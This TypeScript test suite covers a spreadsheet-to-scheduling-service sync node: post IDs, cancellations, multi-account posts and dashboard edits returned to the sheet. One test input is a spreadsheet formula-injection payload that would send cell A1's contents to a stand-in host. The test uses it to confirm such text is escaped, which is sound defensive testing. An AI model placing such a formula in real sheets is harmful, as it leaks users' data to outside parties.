import type { IDataObject, INodeParameters } from 'n8n-workflow';

import { images } from '../../kit/media';
import { useWorld, world } from '../../kit/world/useWorld';
import { updateSheet, writtenBack } from './updateRun';

/** Rows that lost their post ID, unknown IDs, and accounts for which a post is live already. */
useWorld();

const row = (cells: IDataObject = {}): IDataObject => ({
	account: '@northwind',
	caption: 'Rye bread',
	media: world.media.url(images.jpeg.file),
	// With an offset, because without one, accounts in other zones would read another time.
	date: '2031-03-02T10:00:00+01:00',
	...cells,
});

const runSheet = async (rows: readonly IDataObject[], options: INodeParameters = {}) =>
	await updateSheet(world, rows, { options });

/** Creates the post of a row, and returns its ID, which the test leaves out of the row. */
async function createPost(options: INodeParameters = {}): Promise<string> {
	const { rows } = await runSheet([row()], options);
	return String(rows[0]?.postId);
}

const SHEET: INodeParameters = {
	sheetTag: 'tag:recipes',
	cancelledRows: 'cancel',
	deletedRows: 'cancel',
};

test('a cancelled row without its ID is the row of the planned post that says the same', async () => {
	const postId = await createPost();
	const reported = await runSheet([row({ status: 'Cancelled' })]);
	expect(reported.sent).toEqual([]);
	expect(reported.rows[0]).toMatchObject({ ok: false, postId });
	const { rows, sent } = await runSheet([row({ status: 'Cancelled' })], {
		cancelledRows: 'cancel',
	});
	expect(sent).toEqual([`DELETE /v2/posts/${postId}`]);
	expect(rows[0]).toMatchObject({ ok: true, postId, change: 'cancel' });
});

test.each(['On hold', 'Draft'])(
	'a row without its ID and with the status %s keeps its post, which no deleted row takes along',
	async (status) => {
		const postId = await createPost(SHEET);
		const { rows, sent } = await runSheet([row({ status })], SHEET);
		expect(sent).toEqual([]);
		expect(rows).toHaveLength(1);
		expect(rows[0]).toMatchObject({ ok: false, postId, row: 1 });
		expect(rows[0]?.issues).toContain(postId);
	},
);

test('a cancelled row without its ID is never a deleted row as well', async () => {
	const postId = await createPost(SHEET);
	const { rows, sent } = await runSheet([row({ status: 'Cancelled' })], {
		...SHEET,
		cancelledRows: 'report',
	});
	expect(sent).toEqual([]);
	expect(rows.map((one) => [one.row, one.postId])).toEqual([[1, postId]]);
});

test('an ID that the service does not know stops a run that stops before any change', async () => {
	const rows = [row({ postId: 'post_mistyped' }), row({ caption: 'White bread' })];
	const { sent, error } = await runSheet(rows, { rowsWithIssues: 'stopBefore' });
	expect(sent).toEqual([]);
	expect(`${error?.message} ${error?.description ?? ''}`).toContain('post_mistyped');
});

test('an account for which a post is live stays with it, and no run tries to cancel it there', async () => {
	const both = '@northwind, @northwind.jp';
	const { rows: created } = await runSheet([row({ account: both })]);
	const [written = {}] = created;
	const postId = String(written.postId);
	world.dashboard.setStatus(postId, 'posted', 'acc_instagram_main');
	let given: IDataObject[] = [{ ...written, account: '@northwind.jp' }];
	for (const _run of [1, 2, 3]) {
		const { rows, sent } = await runSheet(given);
		expect(sent).toEqual([]);
		expect(rows[0]).toMatchObject({
			ok: true,
			issues: expect.stringContaining('@northwind') as string,
		});
		given = rows;
	}
});

test('an account that is removed while the post waits there is cancelled, and a live one is left', async () => {
	const accounts = ['acc_instagram_main', 'acc_tiktok_japan', 'acc_tiktok_main'];
	const { rows: created } = await runSheet([row({ account: accounts.join(', ') })]);
	const postId = String(created[0]?.postId);
	world.dashboard.setStatus(postId, 'posted', 'acc_instagram_main');
	const { sent } = await runSheet([{ ...created[0], account: 'acc_tiktok_main' }]);
	expect(sent).toEqual([`DELETE /v2/posts/${postId}`]);
	const items = world.service.posts.items(world.service.posts.get(postId)?.seq ?? 0);
	expect(Object.fromEntries(items.map((item) => [item.accountId, item.status]))).toEqual({
		acc_instagram_main: 'posted',
		acc_tiktok_japan: 'cancelled',
		acc_tiktok_main: 'pending_approval',
	});
});

/** A row with a text for each platform, so each platform gets its own post. */
const rowOfTwo = (cells: IDataObject = {}): IDataObject =>
	row({
		account: '@northwind, @northwind.cooks',
		caption: '',
		'Instagram Caption': 'Rye bread for Instagram',
		'TikTok Caption': 'Rye bread for TikTok',
		...cells,
	});

const idsOf = ({ postId }: IDataObject = {}) => String(postId).split(', ');

test('an account that a person reschedules while the run reschedules the other keeps its time', async () => {
	const account = '@northwind.cooks, @northwind.jp';
	const { rows } = await runSheet([row({ account })]);
	const { postId, syncState } = rows[0] ?? {};
	let cancelled = 0;
	world.beforeRequest(({ method }) => {
		cancelled += method === 'DELETE' ? 1 : 0;
		if (method === 'DELETE' && cancelled === 1) {
			world.dashboard.reschedule(String(postId), '2031-03-20T08:00:00Z');
		}
	});
	const later = row({ account, postId, syncState, date: '2031-03-02T18:00:00+01:00' });
	const result = await runSheet([later]);
	world.beforeRequest();
	expect(cancelled).toBe(1);
	expect(result.rows[0]).toMatchObject({ ok: false, postId });
	expect(result.rows[0]?.issues).toContain('2031-03-20');
});

test('a wrong ID of a row of two posts changes none of its posts', async () => {
	const given = [rowOfTwo(), row({ caption: 'White bread', date: '2031-03-09T10:00:00+01:00' })];
	const { rows } = await runSheet(given);
	const [instagram = '', tiktok = ''] = idsOf(rows[0]);
	const other = String(rows[1]?.postId);
	const swapped = [
		rowOfTwo({ postId: `${other}, ${tiktok}`, 'TikTok Caption': 'Rye bread, SOLD OUT' }),
		{ ...given[1], postId: instagram },
	];
	const result = await runSheet(swapped);
	expect(result.sent).toEqual([]);
	expect(result.rows.map(({ ok }) => ok)).toEqual([false, false]);
});

test('swapped IDs cancel no post, though the row of one of them is cancelled', async () => {
	const other = row({ caption: 'Lemon cake', date: '2031-03-09T10:00:00+01:00' });
	const { rows } = await runSheet([row(), other]);
	const [first, second] = rows.map(({ postId }) => postId);
	const swapped = [row({ postId: second, status: 'Cancelled' }), { ...other, postId: first }];
	const result = await runSheet(swapped, SHEET);
	expect(result.sent).toEqual([]);
	expect(result.rows.map(({ ok }) => ok)).toEqual([false, false]);
});

test('an account cell that was cleared is reported, with an edited caption too', async () => {
	const { rows } = await runSheet([row()]);
	const { postId, syncState } = rows[0] ?? {};
	const edited = row({ account: '', caption: 'Rye bread, SOLD OUT', postId, syncState });
	const result = await runSheet([edited, row({ caption: 'Other', date: '2031-03-09 10:00' })]);
	expect(result.rows[0]).toMatchObject({ ok: false, postId });
	expect(result.rows[0]?.issues).toMatch(/account/i);
});

test('a row with the two IDs of another row takes no account away from the posts of that row', async () => {
	const single = row({ caption: 'White bread', account: '@northwind.cooks' });
	const given = [rowOfTwo(), { ...single, date: '2031-03-09T10:00:00+01:00' }];
	const { rows } = await runSheet(given);
	const swapped = writtenBack(given, [...rows].reverse());
	const result = await runSheet(swapped);
	expect(result.sent).toEqual([]);
	expect(result.rows.map(({ ok }) => ok)).toEqual([false, false]);
});

/** Rows of one series: their captions have most words in common, and their media differ. */
const series = (): [IDataObject, IDataObject] => [
	rowOfTwo({
		caption: '1: kitchen oven from our harbor',
		'Instagram Caption': '1: only for Instagram',
		'TikTok Caption': '1: kitchen oven from our harbor',
	}),
	row({
		account: '@northwind.jp',
		caption: '2: oven kitchen from our market',
		media: world.media.url(images.png.file),
		date: '2031-03-09T10:00:00+01:00',
	}),
];

test.each([
	['as they were', {}],
	['with another word in the caption', { caption: '2: oven kitchen from our garden' }],
])(
	'IDs and states of a series that changed rows change nothing, the rows %s',
	async (_how, edit) => {
		const given = series();
		const { rows } = await runSheet(given);
		const swapped = given.map((cells, at) => {
			const { postId, syncState } = rows[1 - at] ?? {};
			return { ...cells, ...(at === 1 && edit), postId, syncState };
		});
		const result = await runSheet(swapped);
		expect(result.sent.filter((request) => !request.startsWith('POST'))).toEqual([]);
		expect(result.rows.map(({ ok }) => ok)).toEqual([false, false]);
	},
);

test('single posts of a series whose IDs and states changed rows keep caption and time', async () => {
	const [, second] = series();
	const first = { ...second, caption: '1: kitchen oven from our harbor', date: row().date };
	const given = [first, second];
	const { rows } = await runSheet(given);
	const [one, two] = rows.map(({ postId, syncState }) => ({ postId, syncState }));
	const edited = { ...second, caption: '2: oven kitchen from our garden' };
	const result = await runSheet([
		{ ...first, ...two },
		{ ...edited, ...one },
	]);
	expect(result.sent).toEqual([]);
	expect(result.rows.map(({ ok }) => ok)).toEqual([false, false]);
});

test.each([
	['empty', ''],
	['the same', 'Rye bread'],
])(
	'a caption is returned for both platforms if the column for one of them is %s',
	async (_how, own) => {
		const options = { dashboardChanges: 'return' };
		const given = row({ account: '@northwind, @northwind.cooks', 'Instagram Caption': own });
		const { rows } = await runSheet([given], options);
		const { postId, syncState } = rows[0] ?? {};
		world.dashboard.edit(String(postId), { caption: 'Rye bread, corrected' });
		const returned = await runSheet([{ ...given, postId, syncState }], options);
		expect(returned.rows).toMatchObject([{ caption: 'Rye bread, corrected' }]);
		const next = await runSheet([{ ...given, ...returned.rows[0] }], options);
		expect(next.sent).toEqual([]);
		expect(next.rows).toMatchObject([{ ok: true, postId }]);
	},
);

test.each([['=HYPERLINK("https://host.example?"&A1;"//a")&"!"'], ['+1 for rye'], ['-5 % on rye']])(
	'a text of the dashboard is no formula in the sheet, and means itself when it comes back: %s',
	async (text) => {
		const options = { dashboardChanges: 'return' };
		const given = row({ notes: 'Ask Ana' });
		const { rows } = await runSheet([given], options);
		const { postId, syncState } = rows[0] ?? {};
		world.dashboard.edit(String(postId), { caption: text, notes: text });
		const returned = await runSheet([{ ...given, postId, syncState }], options);
		expect(returned.rows).toMatchObject([{ caption: `'${text}`, notes: `'${text}` }]);
		const next = await runSheet([{ ...given, ...returned.rows[0] }], options);
		expect(next.sent).toEqual([]);
		expect(next.rows).toMatchObject([{ ok: true, postId }]);
	},
);

test('the second post of a row that lost its IDs waits for review in every run', async () => {
	await runSheet([rowOfTwo()]);
	const edited = rowOfTwo({ 'TikTok Caption': 'Rye bread for everybody' });
	const first = await runSheet([edited]);
	expect(first.sent).toEqual([]);
	expect(first.rows).toMatchObject([{ ok: false }]);
	const { postId, syncState } = first.rows[0] ?? {};
	expect(idsOf(first.rows[0])).toHaveLength(1);
	const second = await runSheet([{ ...edited, postId, syncState }]);
	expect(second.sent).toEqual([]);
	expect(second.rows).toMatchObject([{ ok: false }]);
});

test('a row whose ID and state went to its edited copy gets no second post', async () => {
	const own = row({ caption: 'Rye bread from our oven' });
	const other = row({ caption: 'White bread', date: '2031-03-09T10:00:00+01:00' });
	const { rows } = await runSheet([own, other]);
	const [{ postId } = {}, { syncState } = {}] = rows;
	const copy = { ...own, caption: 'Rye bread from our bakery', postId, syncState };
	const result = await runSheet([{ ...own, notes: 'Ask Kim' }, copy]);
	expect(result.sent).toEqual([]);
	expect(result.rows.map(({ ok }) => ok)).toEqual([false, false]);
});

test.each<[string, IDataObject, (postId: string) => void]>([
	['time', {}, (postId) => world.dashboard.reschedule(postId, '2031-03-05T08:00:00Z')],
	['text', {}, (postId) => world.dashboard.edit(postId, { hashtags: ['dashboard'] })],
	[
		'account',
		{},
		(postId) => world.dashboard.addAccount(postId, 'acc_tiktok_japan', '2031-03-02T09:00:00Z'),
	],
])(
	'the %s that a person changed in one of two posts of a row is not returned for both',
	async (_what, cells, change) => {
		const options = { dashboardChanges: 'return' };
		const { rows } = await runSheet([rowOfTwo({ Hashtags: '#bread', ...cells })], options);
		const [written = {}] = rows;
		change(idsOf(written)[0] ?? '');
		const given = {
			...rowOfTwo({ Hashtags: '#bread', ...cells }),
			postId: written.postId,
			syncState: written.syncState,
		};
		const returned = await runSheet([given], options);
		expect(returned.sent).toEqual([]);
		expect(returned.rows).toMatchObject([{ ok: false }]);
		const next = { ...given, ...returned.rows[0] };
		expect((await runSheet([next], options)).sent).toEqual([]);
	},
);
